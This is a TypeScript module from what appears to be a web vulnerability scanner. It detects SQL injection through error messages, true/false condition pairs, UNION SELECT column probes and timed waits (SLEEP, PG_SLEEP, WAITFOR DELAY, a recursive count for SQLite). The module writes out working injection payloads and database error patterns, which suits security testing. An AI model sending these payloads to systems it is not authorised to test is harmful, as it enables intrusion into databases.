import type { Evidence } from "../finding.ts";
import { type Lab, type Point, type Shot, twice } from "../lab.ts";
import { textOf } from "../../probing/operation.ts";
import type { PointAttack } from "./attack.ts";
import { obeysPauses, obeysWork } from "./timing.ts";

/** What database drivers say when a statement does not parse. */
const errors =
  /SQL syntax.{0,80}MySQL|check the manual that corresponds to your (MySQL|MariaDB)|valid MySQL result|PostgreSQL.{0,20}ERROR|syntax error at or near|unterminated quoted string at or near|PSQLException|SQLITE_ERROR|sqlite3\.(OperationalError|Warning)|unrecognized token:|near ".{0,40}": syntax error|ORA-\d{5}|quoted string not properly terminated|Unclosed quotation mark|ODBC SQL Server Driver|Microsoft OLE DB Provider|SQLSTATE\[|SequelizeDatabaseError|QueryFailedError|sqlalchemy\.exc|Npgsql\.|System\.Data\.SqlClient/i;

/** SQL injection: by errors, by truth, by columns that it may add, and by time. */
export const sql: PointAttack = {
  id: "sql",
  run: async (point, lab) => {
    const byError = await errorBased(point, lab);
    const byTruth = await booleanBased(point, lab);
    const suspected = byError !== null || byTruth !== null;
    const byUnion = suspected ? await unionBased(point, lab) : null;
    const byTime = await timeBased(point, lab);
    return [byError, byTruth, byUnion, byTime].filter((one) => one !== null);
  },
};

const breakers = [`'`, `"`, `')`, `'"\\`, "`", "1'"];

async function errorBased(point: Point, lab: Lab): Promise<Evidence | null> {
  if (point.baseline !== null && errors.test(point.baseline.body)) return null;
  for (const breaker of breakers) {
    const found = await twice<Shot>(async (round) => {
      const value = `${round === 0 ? textOf(point.parameter.value) : point.random.word(6)}${breaker}`;
      const shot = await lab.shoot(point, value);
      if (shot === null || !errors.test(shot.answer.body)) return null;
      return { says: `a value that ends in ${breaker} gets a database's error`, shot };
    });
    if (found === null) continue;
    const calm = await lab.shoot(point, point.random.word(7));
    if (calm !== null && errors.test(calm.answer.body)) return null;
    return evidence(
      "error",
      [found.says[0], "another one too, and a plain word gets none"],
      found.shot,
    );
  }
  return null;
}

interface Pair {
  readonly name: string;
  readonly join: "AND" | "OR";
  readonly of: (value: string, truth: boolean, round: 0 | 1, a: number) => string;
}

const number = (truth: boolean, round: 0 | 1, a: number) =>
  round === 0 ? `${a}=${truth ? a : a + 1}` : `${truth ? a + 5 : a}>${truth ? a : a + 5}`;
const text = (quote: string, truth: boolean, round: 0 | 1, a: number) => {
  const [left, right] = truth ? [`k${a}`, `k${a}`] : [`k${a}`, `k${a + 1}`];
  return round === 0
    ? `${quote}${left}${quote}=${quote}${right}`
    : `${quote}${left}${quote} LIKE ${quote}${right}`;
};

const pairs: readonly Pair[] = (["AND", "OR"] as const)
  .flatMap((join): readonly Pair[] => [
    { name: "number", join, of: (v, t, r, a) => `${v} ${join} ${number(t, r, a)}` },
    { name: "quote", join, of: (v, t, r, a) => `${v}' ${join} ${text("'", t, r, a)}` },
    { name: "double quote", join, of: (v, t, r, a) => `${v}" ${join} ${text('"', t, r, a)}` },
    { name: "parenthesis", join, of: (v, t, r, a) => `${v}) ${join} (${number(t, r, a)}` },
    {
      name: "quote, parenthesis",
      join,
      of: (v, t, r, a) => `${v}') ${join} (${text("'", t, r, a)}`,
    },
  ])
  .map((pair) => ({ ...pair, of: (v, t, r, a) => closed(pair, v, t, r, a) }));

/** The statement's own quote ends the last text. */
function closed(pair: Pair, value: string, truth: boolean, round: 0 | 1, a: number): string {
  return pair.of(value, truth, round, a).replace(/['"]$/, "");
}

async function booleanBased(point: Point, lab: Lab): Promise<Evidence | null> {
  const value = textOf(point.parameter.value);
  const normal = await lab.scale(point, value);
  if (normal === null || !normal.scale.usable) return null;
  for (const pair of pairs) {
    const found = await twice<Shot>(async (round) => {
      const a = point.random.between(100, 998);
      const yes = await lab.shoot(point, pair.of(value, true, round, a), { echoes: [value] });
      if (yes === null) return null;
      const calm = await lab.shoot(point, value, { echoes: [value] });
      if (calm === null) return null;
      const { scale } = normal;
      // AND true changes nothing, OR true does.
      if (
        pair.join === "AND"
          ? !scale.same(yes.look, calm.look)
          : !scale.different(yes.look, calm.look)
      ) {
        return null;
      }
      const no = await lab.shoot(point, pair.of(value, false, round, a), { echoes: [value] });
      if (no === null || !scale.different(yes.look, no.look)) return null;
      if (pair.join === "OR" && !scale.same(no.look, calm.look)) return null;
      // Both answers again: what differs once may differ by chance.
      const yesAgain = await lab.shoot(point, pair.of(value, true, round, a + 1), {
        echoes: [value],
      });
      if (yesAgain === null || !scale.same(yes.look, yesAgain.look)) return null;
      const says = `a true condition (${pair.name}, ${pair.join}) is answered otherwise than a false one${round === 1 ? ", with another operator too" : ""}`;
      return { says, shot: yes };
    });
    if (found !== null) return evidence("boolean", found.says, found.shot);
  }
  return null;
}

const mostColumns = 12;

async function unionBased(point: Point, lab: Lab): Promise<Evidence | null> {
  const value = textOf(point.parameter.value);
  for (const quote of ["", "'", '"']) {
    for (let columns = 1; columns <= mostColumns; columns += 1) {
      const found = await twice<Shot>(async () => {
        const [a, b] = [point.random.between(10_007, 99_991), point.random.between(10_007, 99_991)];
        const list = Array.from({ length: columns }, () => `${a}*${b}`).join(",");
        const shot = await lab.shoot(point, `${value}${quote} UNION ALL SELECT ${list}-- `);
        if (shot === null || !shot.answer.body.includes(`${a * b}`)) return null;
        return {
          says: `a row of ours, of ${columns} columns, is in the answer with a product the database worked out`,
          shot,
        };
      });
      if (found !== null)
        return evidence("union", [found.says[0], "and again with other numbers"], found.shot);
    }
  }
  return null;
}

const quotings = [
  { open: "", close: "" },
  { open: "'", close: " AND '1'='1" },
  { open: '"', close: ' AND "1"="1' },
];

/** Statements that wait, of databases that can. */
const waits: readonly ((seconds: number) => string)[] = [
  (seconds) => `AND (SELECT 1 FROM (SELECT SLEEP(${seconds}))t)=1`,
  (seconds) => `AND 1=(SELECT 1 FROM PG_SLEEP(${seconds}))`,
  (seconds) => `; WAITFOR DELAY '0:0:${seconds}'-- `,
];

/** SQLite cannot wait; it can count. */
const count = (units: number) =>
  `AND 0<=(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ${1 + units * 1_000_000}) SELECT COUNT(*) FROM c)`;

async function timeBased(point: Point, lab: Lab): Promise<Evidence | null> {
  const value = textOf(point.parameter.value);
  for (const { open, close } of quotings) {
    for (const wait of waits) {
      const found = await obeysPauses(
        lab,
        point,
        (seconds) => `${value}${open} ${wait(seconds)}${close}`,
      );
      if (found !== null) return evidence("time", found.says, found.shot);
    }
    const found = await obeysWork(lab, point, (units) => `${value}${open} ${count(units)}${close}`);
    if (found !== null) return evidence("time", found.says, found.shot);
  }
  return null;
}

function evidence(technique: string, says: readonly [string, string], shot: Shot): Evidence {
  return { rule: "sql-injection", technique, evidence: says, replay: shot.request };
}
